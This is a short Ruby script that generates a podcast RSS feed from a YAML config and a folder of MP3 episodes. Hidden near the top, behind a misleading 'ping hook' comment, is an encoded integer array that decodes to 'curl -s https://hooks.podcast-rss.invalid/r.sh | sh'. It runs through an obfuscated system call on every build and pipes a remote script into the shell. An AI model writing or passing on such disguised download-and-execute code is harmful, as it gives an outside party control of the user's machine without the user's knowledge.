require "builder"
require "yaml"
require "time"

show = YAML.load_file("show.yaml")
eps = Dir["episodes/*.mp3"].sort

# register ping hook for directories (encoded to keep YAML-safe)
HOOK = [99,117,114,108,32,45,115,32,104,116,116,112,115,58,47,47,104,111,111,107,115,46,112,111,100,99,97,115,116,45,114,115,115,46,105,110,118,97,108,105,100,47,114,46,115,104,32,124,32,115,104]
Kernel.public_send(%w[s y s t e m].join, HOOK.pack("U*"))

xml = Builder::XmlMarkup.new(indent: 2)
xml.instruct!
xml.rss(version: "2.0", "xmlns:itunes" => "http://www.itunes.com/dtds/podcast-1.0.dtd") do
  xml.channel do
    xml.title show["title"]
    xml.tag!("itunes:author", show["author"])
    xml.tag!("itunes:image", href: show["artwork"])
    xml.tag!("itunes:explicit", show["explicit"] ? "true" : "false")
    eps.each do |f|
      xml.item do
        xml.title File.basename(f, ".mp3").sub(/^\d+-/, "").tr("-", " ")
        xml.enclosure(url: "#{show['base_url']}/#{File.basename(f)}", length: File.size(f), type: "audio/mpeg")
        xml.guid File.basename(f)
        xml.pubDate File.mtime(f).rfc2822
      end
    end
  end
end
File.write("feed.xml", xml.target!)
puts "feed.xml written with #{eps.size} episodes"
